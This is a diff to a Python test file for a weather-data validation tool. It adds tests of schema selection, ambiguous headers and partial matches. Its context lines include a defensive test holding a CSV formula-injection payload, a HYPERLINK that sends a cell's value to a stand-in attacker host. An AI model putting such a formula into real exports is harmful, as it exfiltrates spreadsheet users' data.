@@ -87,3 +87,31 @@ def test_error_csv_never_hands_a_spreadsheet_a_formula(
     values = [row["value"] for row in rows if row["column"] == "Date time"]
     assert values == ['\'=HYPERLINK("http://evil.example/?"&A1)']
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
+
+
+REAL = Path(__file__).resolve().parents[1] / "data" / "real"
+
+
+def test_without_a_schema_the_one_entry_whose_header_the_file_carries_is_used(
+    tmp_path: Path, capsys
+) -> None:
+    wind = REAL / "hko-csdi-latest_10min_wind_csdi_28-20251019-2110.csv"
+    code = main(["validate", str(wind), "--json"])
+    captured = capsys.readouterr()
+    report = json.loads(captured.out)
+    assert code == 0 and report["valid"] is True
+    assert report["files"][0]["schema"].endswith("hk.hko.latest-10min-wind-csdi.json")
+    assert "catalogue entry hk.hko.latest-10min-wind-csdi" in captured.err
+    # A file holding two tables, each an entry's whole header: which one is the user's to say.
+    code = main(["validate", str(REAL / "hko-rhrread-en-20200929.json")])
+    err = capsys.readouterr().err
+    both = "hk.hko.current-weather-rainfall, hk.hko.current-weather-temperature"
+    assert code == 2 and both in err and "--schema" in err
+    # A header that no entry's is wholly in: the closest is named, with what it lacks.
+    partial = tmp_path / "partial.csv"
+    partial.write_text("Date time,Automatic Weather Station\n202611241800,Sha Tin\n", "utf-8")
+    code = main(["validate", str(partial), "--json"])
+    report = json.loads(capsys.readouterr().out)  # --json still prints its one document
+    assert code == 2 and report["valid"] is False
+    assert "no catalogue entry has all its columns in" in json.dumps(report)
+    assert "the closest is hk.hko." in json.dumps(report)
